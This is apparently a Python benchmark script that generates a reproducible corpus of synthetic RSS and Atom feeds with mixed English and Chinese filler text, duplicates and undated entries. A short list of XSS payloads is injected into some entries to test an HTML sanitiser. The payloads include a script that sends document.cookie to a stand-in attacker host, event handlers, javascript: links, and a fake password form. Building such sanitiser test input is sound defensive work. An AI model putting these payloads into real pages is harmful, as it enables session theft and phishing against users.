"""Generate a deterministic corpus of RSS 2.0 and Atom 1.0 feeds for the benchmarks.

The same ``--seed`` and ``--feeds`` always give byte-identical files (the manifest's
``digest`` proves it), so figures from different machines measure the same input.

What the corpus contains, by design (defaults for 200 feeds):

* about 11,500 entries (20-100 per feed) and 18 MB in all; content sizes are
  heavy-tailed (most entries a few hundred bytes, a few tens of KB);
* RSS 2.0 and Atom 1.0 mixed, HTML content escaped, in CDATA and as inline XHTML;
* a third of the feeds in Chinese (UTF-8 characters, never character references);
* undated entries (no pubDate / published / updated);
* duplicates across feeds: the same story (guid/id and link) in several feeds;
* hostile HTML (``<script>``, ``onerror=``, ``javascript:`` links, iframes) in some
  entries, so sanitising costs what it costs on the real web.

Usage::

    python bench/gen_corpus.py [--out bench/.corpus] [--feeds 200] [--seed 20240601]
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import random
import sys
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from common import DEFAULT_CORPUS, DEFAULT_SEED, MANIFEST_NAME, FeedFile, Manifest, fmt_bytes

__all__ = ["describe", "generate", "headline", "html_body", "sentence"]

ENTRIES_PER_FEED = 57.5  # 11,500 entries for 200 feeds
BYTES_PER_FEED = 90_000  # 18 MB for 200 feeds
MIN_ENTRIES, MAX_ENTRIES = 20, 100

SHARE_ATOM = 0.4
SHARE_CHINESE = 0.33
SHARE_UNDATED = 0.08
SHARE_DUPLICATE = 0.04
SHARE_HOSTILE = 0.06
SHARE_NO_GUID = 0.05
SHARE_ENCLOSURE = 0.05

# The XML around the content (tags, dates, ids, titles), measured on the default
# corpus; used to leave the right byte budget for the content itself.
OVERHEAD_PER_ENTRY = 735
OVERHEAD_PER_FEED = 800

# Fixed "now" of the corpus; nothing depends on the clock of the machine.
NEWEST = datetime(2024, 6, 1, 8, 0, tzinfo=UTC)
CST = timezone(timedelta(hours=8))

_EN_TEXT = (
    "market council energy river museum election railway harbour festival budget "
    "research vaccine orbit climate farmer teacher striker court bridge archive "
    "software network village storm drought satellite ministry report league "
    "reform tariff factory library airport garden parliament museum theatre "
    "minister scientist engineer protest treaty summit census monsoon glacier "
    "reservoir startup database compiler kernel browser protocol standard "
    "the a of and in on for with new old record quiet sudden local national "
    "announced reported opened closed delayed approved rejected launched warned "
    "after before during despite amid over under against across between"
)
_EN_WORDS = tuple(_EN_TEXT.split())

_ZH_TEXT = (
    "全国 各级 工会 走访 慰问 职工 经济 发展 高质量 城市 乡村 振兴 科技 创新 "
    "人工智能 新能源 汽车 出口 增长 消费 市场 稳定 就业 教育 医疗 改革 政策 "
    "发布会 记者 获悉 近日 今年 以来 同比 上涨 下降 百分点 项目 建设 铁路 "
    "高速 公路 航天 卫星 发射 成功 气象 台风 暴雨 预警 文化 旅游 博物馆 "
    "展览 开幕 体育 比赛 冠军 足球 联赛 数据 显示 专家 表示 进一步 推动 "
    "加强 保障 服务 群众 社区 基层 治理 生态 环境 保护 长江 黄河 流域"
)
_ZH_PHRASES = tuple(_ZH_TEXT.split())

_HOSTILE = (
    '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    '<img src="https://img.example.com/x.png" onerror="alert(1)"/>',
    '<a href="javascript:alert(document.domain)">details</a>',
    '<iframe src="https://evil.example/frame" width="1" height="1"></iframe>',
    "<style>body{display:none}</style>",
    '<div onclick="steal()" style="position:fixed;top:0">click</div>',
    '<object data="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example/login"><input name="password"/></form>',
)


@dataclass(slots=True)
class _Story:
    """One entry before it is written in a feed's format."""

    id: str
    link: str
    title: str
    html: str
    summary: str | None
    date: datetime | None
    author: str
    categories: list[str] = field(default_factory=list)
    enclosure: tuple[str, int] | None = None
    id_is_link: bool = False


def sentence(rng: random.Random, zh: bool) -> str:
    """One sentence of filler text, Chinese (``zh``) or English."""
    if zh:
        words = rng.choices(_ZH_PHRASES, k=rng.randint(6, 16))
        cut = rng.randint(2, len(words) - 2)
        return "".join(words[:cut]) + "，" + "".join(words[cut:]) + "。"
    words = rng.choices(_EN_WORDS, k=rng.randint(8, 20))
    return " ".join(words).capitalize() + "."


def headline(rng: random.Random, zh: bool) -> str:
    """A headline of filler words, Chinese (``zh``) or English."""
    if zh:
        return "".join(rng.choices(_ZH_PHRASES, k=rng.randint(4, 9)))
    return " ".join(rng.choices(_EN_WORDS, k=rng.randint(5, 11))).title()


def html_body(rng: random.Random, zh: bool, budget: int, hostile: bool) -> str:
    """Well-formed (XHTML-compatible) HTML of about ``budget`` UTF-8 bytes.

    With ``hostile``, one dangerous snippet (script, event handler...) is inserted.
    """
    parts: list[str] = []
    size = 0
    while size < budget:
        roll = rng.random()
        if roll < 0.65:
            text = " ".join(sentence(rng, zh) for _ in range(rng.randint(1, 4)))
            if rng.random() < 0.3:
                word = rng.choice(_ZH_PHRASES if zh else _EN_WORDS)
                href = f"https://news.example.com/{rng.randrange(10**6)}"
                text += f' <a href="{href}">{word}</a>'
            if rng.random() < 0.2:
                text = f"<strong>{sentence(rng, zh)}</strong> {text}"
            part = f"<p>{text}</p>"
        elif roll < 0.8:
            items = "".join(f"<li>{sentence(rng, zh)}</li>" for _ in range(rng.randint(2, 5)))
            part = f"<ul>{items}</ul>"
        elif roll < 0.9:
            part = (
                f'<img src="https://img.example.com/{rng.randrange(10**6)}.jpg" '
                f'alt="{escape(headline(rng, zh))}" width="640" height="360"/>'
            )
        else:
            part = f"<blockquote><em>{sentence(rng, zh)}</em></blockquote>"
        parts.append(part)
        size += len(part.encode())
    if hostile:
        parts.insert(rng.randrange(len(parts) + 1), rng.choice(_HOSTILE))
    return "\n".join(parts)


def _entry_counts(rng: random.Random, feeds: int, total: int) -> list[int]:
    """Per-feed entry counts within [MIN, MAX] that add up to ``total``."""
    counts = [rng.randint(MIN_ENTRIES, MAX_ENTRIES) for _ in range(feeds)]
    total = max(MIN_ENTRIES * feeds, min(MAX_ENTRIES * feeds, total))
    # Each step moves the sum by one towards the target, and the target is
    # reachable within the bounds, so this ends after |sum - total| steps.
    while (diff := sum(counts) - total) != 0:
        i = rng.randrange(feeds)
        if diff > 0 and counts[i] > MIN_ENTRIES:
            counts[i] -= 1
        elif diff < 0 and counts[i] < MAX_ENTRIES:
            counts[i] += 1
    return counts


def _rfc822(dt: datetime) -> str:
    return format_datetime(dt)


def _rss(name: str, zh: bool, stories: list[_Story], rng: random.Random) -> str:
    lang = "zh-CN" if zh else "en-GB"
    title = f"{headline(rng, zh)} ({name})"
    dated = [s.date for s in stories if s.date]
    out = [
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">',
        "<channel>",
        f"<title>{escape(title)}</title>",
        f"<link>https://{name}.example.com/</link>",
        f"<description>{escape(sentence(rng, zh))}</description>",
        f"<language>{lang}</language>",
        f'<atom:link href="https://{name}.example.com/feed.xml" rel="self" '
        'type="application/rss+xml"/>',
    ]
    if dated:
        out.append(f"<lastBuildDate>{_rfc822(max(dated))}</lastBuildDate>")
    for s in stories:
        out.append("<item>")
        out.append(f"<title>{escape(s.title)}</title>")
        out.append(f"<link>{escape(s.link)}</link>")
        if s.id_is_link:
            out.append(f'<guid isPermaLink="true">{escape(s.id)}</guid>')
        elif s.id:
            out.append(f'<guid isPermaLink="false">{escape(s.id)}</guid>')
        if s.date:
            out.append(f"<pubDate>{_rfc822(s.date)}</pubDate>")
        out.append(f"<dc:creator>{escape(s.author)}</dc:creator>")
        out.extend(f"<category>{escape(c)}</category>" for c in s.categories)
        if s.summary is None:
            out.append(f"<description>{escape(s.html)}</description>")
        else:
            out.append(f"<description>{escape(s.summary)}</description>")
            out.append(f"<content:encoded><![CDATA[{s.html}]]></content:encoded>")
        if s.enclosure:
            url, length = s.enclosure
            out.append(f'<enclosure url={quoteattr(url)} length="{length}" type="audio/mpeg"/>')
        out.append("</item>")
    out += ["</channel>", "</rss>", ""]
    return "\n".join(out)


def _atom(name: str, zh: bool, stories: list[_Story], rng: random.Random) -> str:
    lang = "zh-CN" if zh else "en-GB"
    dated = [s.date for s in stories if s.date]
    updated = max(dated) if dated else NEWEST
    out = [
        '<?xml version="1.0" encoding="utf-8"?>',
        f'<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="{lang}">',
        f"<title>{escape(headline(rng, zh))} ({name})</title>",
        f"<subtitle>{escape(sentence(rng, zh))}</subtitle>",
        f'<link href="https://{name}.example.com/"/>',
        f'<link rel="self" href="https://{name}.example.com/atom.xml"/>',
        f"<id>tag:{name}.example.com,2024:feed</id>",
        f"<updated>{updated.isoformat()}</updated>",
        f"<author><name>{escape(name)} editors</name></author>",
    ]
    for s in stories:
        out.append("<entry>")
        out.append(f'<title type="text">{escape(s.title)}</title>')
        out.append(f'<link rel="alternate" type="text/html" href={quoteattr(s.link)}/>')
        out.append(f"<id>{escape(s.id)}</id>")
        if s.date:
            out.append(f"<published>{s.date.isoformat()}</published>")
            out.append(f"<updated>{s.date.isoformat()}</updated>")
        out.append(f"<author><name>{escape(s.author)}</name></author>")
        out.extend(f'<category term="{escape(c)}"/>' for c in s.categories)
        if s.summary is not None:
            out.append(f'<summary type="text">{escape(s.summary)}</summary>')
        if rng.random() < 0.15:
            out.append(
                '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
                f"{s.html}</div></content>"
            )
        else:
            out.append(f'<content type="html">{escape(s.html)}</content>')
        if s.enclosure:
            url, length = s.enclosure
            out.append(
                f'<link rel="enclosure" type="audio/mpeg" length="{length}" href={quoteattr(url)}/>'
            )
        out.append("</entry>")
    out += ["</feed>", ""]
    return "\n".join(out)


def _shared_pool(rng: random.Random, size: int) -> list[_Story]:
    """Stories syndicated to several feeds: same id and link wherever they appear."""
    pool = []
    for i in range(size):
        zh = rng.random() < SHARE_CHINESE
        link = f"https://wire.example.net/story/{i:05d}"
        date = NEWEST - timedelta(minutes=rng.randrange(60 * 24 * 30))
        pool.append(
            _Story(
                id=link,
                link=link,
                title=headline(rng, zh),
                html=html_body(rng, zh, rng.randint(300, 3000), hostile=False),
                summary=None,
                date=date.astimezone(CST) if zh else date,
                author="Wire Service",
                id_is_link=True,
            )
        )
    return pool


def _content_budgets(rng: random.Random, n: int, total: int) -> list[int]:
    """Split ``total`` bytes over ``n`` entries, heavy-tailed, at least 120 each."""
    weights = [min(rng.lognormvariate(0.0, 1.0), 25.0) for _ in range(n)]
    scale = max(total, 120 * n) / sum(weights)
    return [max(120, int(w * scale)) for w in weights]


def generate(out: Path, *, feeds: int = 200, seed: int = DEFAULT_SEED) -> Manifest:
    """Write ``feeds`` feed files and ``manifest.json`` into ``out``; return the manifest.

    Old ``feed-*`` files in ``out`` are removed first, so the directory holds exactly
    one corpus.
    """
    if feeds < 1:
        raise ValueError(f"--feeds must be at least 1, got {feeds}")
    rng = random.Random(seed)
    out.mkdir(parents=True, exist_ok=True)
    for old in [*out.glob("feed-*.rss"), *out.glob("feed-*.atom")]:
        old.unlink()

    counts = _entry_counts(rng, feeds, round(ENTRIES_PER_FEED * feeds))
    entries_total = sum(counts)
    content_total = BYTES_PER_FEED * feeds - OVERHEAD_PER_ENTRY * entries_total
    budgets = iter(_content_budgets(rng, entries_total, content_total - OVERHEAD_PER_FEED * feeds))
    pool = _shared_pool(rng, max(10, entries_total // 100))

    files: list[FeedFile] = []
    digest = hashlib.sha256()
    for index, n_entries in enumerate(counts):
        # One generator per feed, so changing one feed's code path does not
        # reshuffle every later feed.
        frng = random.Random(f"{seed}:{index}")
        name = f"feed-{index:03d}"
        fmt = "atom" if frng.random() < SHARE_ATOM else "rss"
        zh = frng.random() < SHARE_CHINESE
        interval = timedelta(minutes=frng.randint(10, 600))
        stories: list[_Story] = []
        seen: set[str] = set()
        for i in range(n_entries):
            budget = next(budgets)
            if frng.random() < SHARE_DUPLICATE:
                shared = frng.choice(pool)
                if shared.id not in seen:
                    seen.add(shared.id)
                    stories.append(shared)
                    continue
            date: datetime | None = NEWEST - interval * i - timedelta(seconds=frng.randrange(600))
            if frng.random() < SHARE_UNDATED:
                date = None
            elif zh and date is not None:
                date = date.astimezone(CST)
            link = f"https://{name}.example.com/{2024}/{i:04d}-{frng.randrange(10**6)}.html"
            if fmt == "atom":
                story_id = str(uuid.UUID(int=frng.getrandbits(128), version=4))
                story_id = f"urn:uuid:{story_id}"
            elif frng.random() < SHARE_NO_GUID:
                story_id = ""
            else:
                story_id = f"tag:{name}.example.com,2024:{i}"
            html = html_body(frng, zh, budget, hostile=frng.random() < SHARE_HOSTILE)
            stories.append(
                _Story(
                    id=story_id,
                    link=link,
                    title=headline(frng, zh),
                    html=html,
                    summary=sentence(frng, zh) if frng.random() < 0.4 else None,
                    date=date,
                    author=f"{frng.choice(_EN_WORDS).title()} {frng.choice(_EN_WORDS).title()}",
                    categories=frng.sample(_ZH_PHRASES if zh else _EN_WORDS, frng.randint(0, 3)),
                    enclosure=(
                        (f"https://media.example.com/{name}/{i}.mp3", frng.randrange(10**7))
                        if frng.random() < SHARE_ENCLOSURE
                        else None
                    ),
                )
            )
        text = (_atom if fmt == "atom" else _rss)(name, zh, stories, frng)
        data = text.encode("utf-8")
        path = out / f"{name}.{fmt}"
        path.write_bytes(data)
        dated = [s.date for s in stories if s.date]
        # A fixed mtime makes the server's Last-Modified reproducible too.
        mtime = (max(dated) if dated else NEWEST).timestamp()
        os.utime(path, (mtime, mtime))
        sha = hashlib.sha256(data).hexdigest()
        digest.update(f"{path.name}:{sha}\n".encode())
        files.append(FeedFile(path.name, fmt, "zh" if zh else "en", n_entries, len(data), sha))

    manifest = Manifest(
        seed=seed,
        feeds=feeds,
        entries_total=entries_total,
        bytes_total=sum(f.bytes for f in files),
        digest=digest.hexdigest(),
        files=tuple(files),
    )
    payload = {
        "version": 1,
        "seed": manifest.seed,
        "feeds": manifest.feeds,
        "entries_total": manifest.entries_total,
        "bytes_total": manifest.bytes_total,
        "digest": manifest.digest,
        "files": [
            {
                "name": f.name,
                "format": f.format,
                "lang": f.lang,
                "entries": f.entries,
                "bytes": f.bytes,
                "sha256": f.sha256,
            }
            for f in files
        ],
    }
    (out / MANIFEST_NAME).write_text(json.dumps(payload, indent=1) + "\n", encoding="utf-8")
    return manifest


def describe(manifest: Manifest) -> str:
    """One line summarising a corpus."""
    atom = sum(f.format == "atom" for f in manifest.files)
    zh = sum(f.lang == "zh" for f in manifest.files)
    return (
        f"corpus: {manifest.feeds} feeds ({manifest.feeds - atom} RSS, {atom} Atom, {zh} Chinese), "
        f"{manifest.entries_total} entries, {fmt_bytes(manifest.bytes_total)}, "
        f"seed {manifest.seed}, digest {manifest.digest[:12]}"
    )


def main(argv: list[str] | None = None) -> int:
    """Command line entry point."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_CORPUS, help="output directory")
    parser.add_argument("--feeds", type=int, default=200, help="number of feeds (default 200)")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED, help="random seed")
    args = parser.parse_args(argv)
    manifest = generate(args.out, feeds=args.feeds, seed=args.seed)
    print(describe(manifest))
    print(f"written to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
